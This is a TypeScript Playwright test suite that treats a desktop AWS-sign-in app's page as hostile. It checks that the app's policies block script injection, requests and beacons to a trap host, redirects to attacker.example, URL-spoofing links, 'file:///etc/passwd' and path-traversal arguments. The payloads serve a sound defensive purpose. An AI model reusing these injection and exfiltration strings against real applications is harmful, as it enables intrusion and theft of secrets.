import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type BuiltDesktop, buildDesktop } from './built-desktop.ts';
import { canLaunch, type Desktop, isStandIn, launcher, startDesktop } from './desktop-rig.ts';
import { setTraps, type Traps } from './traps.ts';

/** As if somebody's script ran in the page: what design.md's "Security" says must hold even then. */
describe.skipIf(!canLaunch)(`a page that has turned against its user, on ${launcher}`, () => {
  let built: BuiltDesktop;
  let desktop: Desktop;
  let traps: Traps;
  let page: Page;
  const role = 'hanbit/452907316084/PaymentsDeveloper';
  beforeAll(async () => {
    traps = await setTraps();
    built = await buildDesktop();
    desktop = await startDesktop(built);
    await desktop.signIn();
    page = await desktop.page();
  });
  afterAll(async () => {
    await desktop?.[Symbol.asyncDispose]();
    await built?.[Symbol.asyncDispose]();
    await traps?.[Symbol.asyncDispose]();
  });

  /** In a task of its own: what Playwright evaluates directly is exempt from the policy on `eval`. */
  const attempt = (script: string): Promise<unknown> =>
    page.evaluate(
      `new Promise((resolve) => setTimeout(async () => {
        try { resolve(await (async () => { ${script} })()); } catch (error) { resolve('refused: ' + error.name); }
      }))`,
    );
  /** The directives that this broke. */
  const broken = async (script: string): Promise<unknown> =>
    attempt(`
      const seen = new Set();
      const note = (event) => seen.add(event.effectiveDirective);
      addEventListener('securitypolicyviolation', note);
      try { await (async () => { ${script} })(); } catch {}
      for (let waited = 0; seen.size === 0 && waited < 5000; waited += 20)
        await new Promise((resolve) => setTimeout(resolve, 20));
      removeEventListener('securitypolicyviolation', note);
      return [...seen].join();
    `);
  const openedUrls = async () => (isStandIn ? desktop.control.openedUrls() : []);

  it('has nothing of Node or Electron within reach', async () => {
    const names = ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer'];
    expect(await page.evaluate((all) => all.filter((name) => name in globalThis), names)).toEqual([]);
    expect(await page.evaluate('Object.keys(daypass).toSorted()')).toEqual(['getState', 'onState', 'run']);
  });

  it.each([
    [
      'a script in the page',
      `const script = document.createElement('script');
       script.textContent = 'globalThis.hit = 1';
       document.head.append(script);`,
    ],
    ['markup', `document.body.innerHTML = '<img src="x" onerror="globalThis.hit = 1">';`],
    ['a frame made of text', `document.createElement('iframe').srcdoc = '<p>';`],
    ['eval', `eval('globalThis.hit = 1');`],
    ['a function made of text', `new Function('globalThis.hit = 1')();`],
    ['a timer made of text', `setTimeout('globalThis.hit = 1');`],
    [
      'a handler in an attribute',
      `const button = document.createElement('b');
       button.setAttribute('onclick', 'globalThis.hit = 1');
       document.body.append(button);
       button.click();`,
    ],
    [
      'a policy that trusts all of it',
      `const all = { createScript: (text) => text };
       const script = document.createElement('script');
       script.textContent = trustedTypes.createPolicy('own', all).createScript('globalThis.hit = 1');
       document.head.append(script);`,
      'trusted-types',
    ],
    ['a worker of its own', `new Worker(URL.createObjectURL(new Blob(['0'])));`],
  ])('runs no text as a script: %s', async (_what, script, directive = 'require-trusted-types-for') => {
    expect(await broken(script)).toBe(directive);
    expect(await page.evaluate('globalThis.hit')).toBeUndefined();
  });

  it.each([
    ['a script', 'script-src-elem', `await import('http://TCP/script.js');`],
    ['a request', 'connect-src', `await fetch('http://TCP/fetch', { mode: 'no-cors' });`],
    [
      'an older request',
      'connect-src',
      `const x = new XMLHttpRequest(); x.open('GET', 'http://TCP/'); x.send();`,
    ],
    ['a farewell', 'connect-src', `navigator.sendBeacon('http://TCP/beacon', 'secret');`],
    ['a socket', 'connect-src', `new WebSocket('ws://TCP/socket');`],
    ['a stream of events', 'connect-src', `new EventSource('http://TCP/events');`],
    ['an image', 'img-src', `new Image().src = 'http://TCP/image.png';`],
    ['a style sheet', 'style-src-elem', `head('link', { rel: 'stylesheet', href: 'http://TCP/style.css' });`],
    ['a font', 'font-src', `await new FontFace('x', 'url(http://TCP/font.woff2)').load();`],
    ['a sound', 'media-src', `new Audio('http://TCP/sound.mp3').load();`],
    ['a frame', 'frame-src', `head('iframe', { src: 'http://TCP/frame' });`],
    ['a frame of its own', 'frame-src', `head('iframe', { src: '/' });`],
    ['an object', 'require-trusted-types-for', `head('object', { data: 'http://TCP/object' });`],
    [
      'a form',
      'form-action',
      `const form = head('form', { action: 'http://TCP/form', method: 'post' }); form.submit();`,
    ],
    ['another base', 'base-uri', `head('base', { href: 'http://TCP/' });`],
  ])('reaches nobody with %s', async (_what, directive, script) => {
    const head = `const head = (name, attributes) => {
      const made = Object.assign(document.createElement(name), attributes);
      document.head.append(made);
      return made;
    };`;
    expect(await broken(`${head} ${script.replaceAll('TCP', traps.tcp)}`)).toBe(directive);
    expect(traps.sprung).toEqual([]);
  });

  it('reaches nobody with a call to a peer, of which no policy on content knows', async () => {
    await attempt(`
      const servers = [
        { urls: 'stun:${traps.udp}' },
        { urls: 'turn:${traps.tcp}?transport=tcp', username: 'secret', credential: 'secret' },
      ];
      const peer = new RTCPeerConnection({ iceServers: servers });
      peer.createDataChannel('out');
      const gathered = new Promise((resolve) => {
        peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve();
        setTimeout(resolve, 1000);
      });
      await peer.setLocalDescription(await peer.createOffer());
      await gathered;
      peer.close();
    `);
    expect(traps.sprung).toEqual([]);
  });

  it.each([
    ['by an address', `location.href = 'http://TCP/';`],
    ['by a name', `location.assign('https://attacker.example/');`],
    ['within the app', `location.href = '/other.html';`],
    ['to text', `location.href = 'data:text/html,<p>hello';`],
    ['by a click', `const link = document.createElement('a'); link.href = 'http://TCP/click'; link.click();`],
    [
      'by a meta element',
      `const meta = document.createElement('meta');
       Object.assign(meta, { httpEquiv: 'refresh', content: '0;url=http://TCP/meta' });
       document.head.append(meta);`,
    ],
  ])('stays where it is: %s', async (_what, script) => {
    await page.evaluate('globalThis.here = true');
    const before = page.url();
    await attempt(script.replaceAll('TCP', traps.tcp));
    // What would have led away has had its turn after this.
    await attempt('await new Promise((resolve) => setTimeout(resolve, 200));');
    expect([page.url(), await page.evaluate('globalThis.here')]).toEqual([before, true]);
    expect(traps.sprung).toEqual([]);
  });

  it.each([
    ['of another origin', `return window.open('https://attacker.example/') === null;`],
    ['of its own', `return window.open('/') === null;`],
    ['of nothing', `return window.open('about:blank') === null;`],
    [
      'by a link',
      `const link = document.createElement('a');
       Object.assign(link, { href: 'https://attacker.example/', target: '_blank' });
       link.click();
       return true;`,
    ],
  ])('opens no window %s, and no browser', async (_what, script) => {
    const before = await openedUrls();
    expect(await attempt(script)).toBe(true);
    await expect.poll(() => page.context().pages().length).toBe(1);
    if (isStandIn) expect(await desktop.control.windows()).toHaveLength(1);
    expect(await openedUrls()).toEqual(before);
  });

  it('is permitted nothing', async () => {
    const asked = await attempt(`
      const place = () => new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(() => resolve('granted'), ({ code }) => resolve(code)));
      const refused = (asking) => asking.then(() => 'granted', ({ name }) => name);
      return [
        await place(),
        await Notification.requestPermission(),
        await refused(navigator.mediaDevices.getUserMedia({ audio: true })),
        await refused(navigator.clipboard.readText()),
      ];
    `);
    // A machine without a microphone may say that first.
    const refused = expect.stringMatching(/^Not(?:Allowed|Found)Error$/);
    expect(asked).toEqual([1, 'denied', refused, 'NotAllowedError']);
  });

  it('makes no page within the page', async () => {
    expect(
      await attempt(`
        const view = document.createElement('webview');
        view.src = 'https://attacker.example/';
        document.body.append(view);
        return 'loadURL' in view;
      `),
    ).toBe(false);
    if (!isStandIn) return;
    const [window] = await desktop.control.windows();
    expect(await desktop.control.attachWebview(window?.id ?? 0)).toBe(true);
  });

  it('has a frame that can ask for nothing', async () => {
    expect(
      await attempt(`
        const frame = document.createElement('iframe');
        document.body.append(frame);
        return [typeof frame.contentWindow.daypass, typeof frame.contentWindow.require];
      `),
    ).toEqual(['undefined', 'undefined']);
  });

  it.each([
    ['addSession', [null]],
    ['addSession', [{ startUrl: 7 }]],
    ['renameSession', ['hanbit', { label: 'x' }]],
    ['signIn', ['hanbit', 'carrier-pigeon']],
    ['copy', [role, 'toString']],
    ['copy', [role, '__proto__']],
    ['copy', ['hanbit/452907316084/../../Admin', 'env-bash']],
    ['prepareRole', [['hanbit/452907316084/ReadOnlyAccess']]],
    ['setFavourite', [role, 1]],
    ['setFavourite', ['x'.repeat(5_000), true]],
    ['saveSettings', ['language=ko']],
    ['saveAccountRules', [{ match: '*' }]],
    ['openConsoleLink', ['https://console.aws.amazon.com/', 'hanbit/452907316084/../../Admin']],
    ['openConsoleLink', [{ href: 'https://console.aws.amazon.com/' }, role]],
    ['tryBrowser', ['chrome']],
    ['tryBrowser', [{ kind: 'profile', browser: 'chrome', profile: '\u0000' }]],
    ['saveBrowserRules', [{ rules: [] }]],
  ] as const)('is told that %s(%j) is no request', async (command, args) => {
    await expect(desktop.ask(command, ...args)).rejects.toThrow('bad-request');
  });

  it.each([
    ['saveSettings', [{ startAtLogin: 'yes' }], 'setting-invalid'],
    ['saveSettings', [{ proxy: 'javascript:alert(1)' }], 'setting-invalid'],
    ['saveSettings', [{ dataFolder: '/etc' }], 'setting-unknown'],
    ['saveAccountRules', [[{ match: 7 }]], 'setting-invalid'],
    ['signIn', ['constructor', 'pkce'], 'session-unknown'],
    ['removeSession', ['../hanbit'], 'session-unknown'],
    ['importSession', ['nobody'], 'session-unknown'],
    ['copy', ['hanbit/452907316084/Administrator', 'env-bash'], 'role-not-assigned'],
  ] as const)('does not get through with %s(%j)', async (command, args, code) => {
    await expect(desktop.ask(command, ...args)).rejects.toThrow(code);
  });

  it.each(['https://attacker.example/', 'javascript:alert(1)', 'file:///etc/passwd', 'http://127.0.0.1/'])(
    'leads no browser to %s as a console',
    async (link) => {
      const before = await openedUrls();
      await expect(desktop.ask('openConsole', role, link)).rejects.toThrow(/link-refused|bad-request/);
      expect(await openedUrls()).toEqual(before);
    },
  );

  it.each([
    ...['https://attacker.example/', 'javascript:alert(1)', 'file:///etc/passwd', 'daypass', ''],
    'http://console.aws.amazon.com/s3/home',
    'https://console.aws.amazon.com.attacker.example/s3/home',
    'https://attacker.example/console.aws.amazon.com/s3/home',
    'https://console.aws.amazon.com@attacker.example/s3/home',
    'https://user:secret@console.aws.amazon.com/s3/home',
    'https://console.aws.amazon.com:8443/s3/home',
    'https://attacker.amazonaws.com/s3/home',
    'https://attacker.console.aws.amazon.com/s3/home',
    'https://console.aws.amazon.com%2eattacker.example/s3/home',
    'https://signin.aws.amazon.com/oauth?Action=logout&redirect_uri=https%3A%2F%2Fattacker.example',
    'https://attacker.example/start/#/console?account_id=452907316084&role_name=PaymentsDeveloper',
    'https://hanbit.awsapps.com/start/#/console?account_id=452907316084&destination=https%3A%2F%2Fattacker.example',
  ])('leads no browser to %s as a link that was pasted', async (link) => {
    const before = await openedUrls();
    for (const command of ['openConsoleLink', 'readConsoleLink'] as const)
      await expect(desktop.ask(command, link, role)).rejects.toThrow(/link-refused|bad-request/);
    expect(await openedUrls()).toEqual(before);
  });

  it.runIf(isStandIn)('brings no program in for a browser, unless a person agrees', async () => {
    const system = { portal: 'mine', consoles: 'several' };
    const programs = ['/bin/sh', String.raw`\\attacker.example\share\browser.exe`, '/tmp/Evil.app'];
    for (const program of programs) {
      const choice = { kind: 'program', program };
      const rules = [{ when: { kind: 'any' }, choice, standing: system }];
      const refused = /setting-invalid|declined/;
      await expect(desktop.ask('tryBrowser', choice)).rejects.toThrow(refused);
      await expect(desktop.ask('saveBrowserRules', rules)).rejects.toThrow(refused);
    }
    expect((await desktop.state()).browserRules).toEqual([]);
  });

  it('fills no screen with consoles', async () => {
    const before = await openedUrls();
    const asked = Array.from({ length: 60 }, (_, at) =>
      desktop.ask('openConsole', role, `https://console.aws.amazon.com/s3/buckets/${at}`).then(
        () => 'opened',
        (error: Error) => error.message,
      ),
    );
    const answers = await Promise.all(asked);
    expect(new Set(answers)).toEqual(new Set(['opened', 'browser-busy']));
    expect(answers.filter((one) => one === 'opened').length).toBeLessThanOrEqual(12);
    if (isStandIn) expect((await openedUrls()).length - before.length).toBeLessThanOrEqual(12);
  });

  it.each([
    'http://hanbit.awsapps.com/start',
    'https://hanbit.awsapps.com.attacker.example/start',
    'javascript:alert(1)',
  ])('adds no session that signs in at %s', async (startUrl) => {
    const session = { startUrl, region: 'ap-northeast-2' };
    await expect(desktop.ask('addSession', session)).rejects.toThrow(/^start-url-|^declined$/);
    expect((await desktop.state()).sessions.map(({ id }) => id)).toEqual(['hanbit']);
  });

  it('has main call no number of a machine for it', async () => {
    const calls = [`https://${traps.tcp}/secret`, `https://2130706433:${traps.tcp.split(':')[1]}/`];
    for (const startUrl of calls)
      await expect(desktop.ask('addSession', { startUrl })).rejects.toThrow('start-url-invalid');
    expect(traps.sprung).toEqual([]);
  });

  it.runIf(isStandIn)(
    'has main call no host, and lead nothing another way, unless a person agrees',
    async () => {
      const { ask, control } = desktop;
      const before = (await control.dialogs()).length;
      const startUrl = 'https://secret.attacker.example/secret';
      await expect(ask('addSession', { startUrl })).rejects.toThrow('declined');
      await expect(ask('saveSettings', { proxy: `http://${traps.tcp}` })).rejects.toThrow('declined');
      const file = '/home/tester/.bashrc';
      await expect(ask('saveSettings', { awsConfigFile: file })).rejects.toThrow('declined');
      const [host, proxy, config] = (await control.dialogs()).slice(before).map(({ message }) => message);
      expect([host, proxy, config]).toEqual([
        expect.stringContaining('secret.attacker.example'),
        expect.stringContaining(`Proxy: http://${traps.tcp}`),
        expect.stringContaining(`AWS config file: ${file}`),
      ]);
      expect((await desktop.state()).settings).toMatchObject({ proxy: '', awsConfigFile: '' });
      expect(traps.sprung).toEqual([]);
    },
  );

  it('finds no secret in all that it is ever told', async () => {
    await desktop.ask('copy', role, 'env-bash');
    const told = JSON.stringify(await desktop.state()) + (await page.content());
    expect(desktop.center.secrets.size).toBeGreaterThan(3);
    expect([...desktop.center.secrets].filter((secret) => told.includes(secret))).toEqual([]);
  });

  it.runIf(isStandIn)('could not have been let in by an argument to the packed app', async () => {
    await using packed = await startDesktop(built, { idle: true, packed: true });
    // security.test.ts of main knows all of them.
    const app = await packed.launch('--remote-debugging-port=0');
    expect(await app.ended).toBe(1);
    expect(app.output()).toMatch(/^Daypass does not run with --remote-debugging-port/);
  });
});
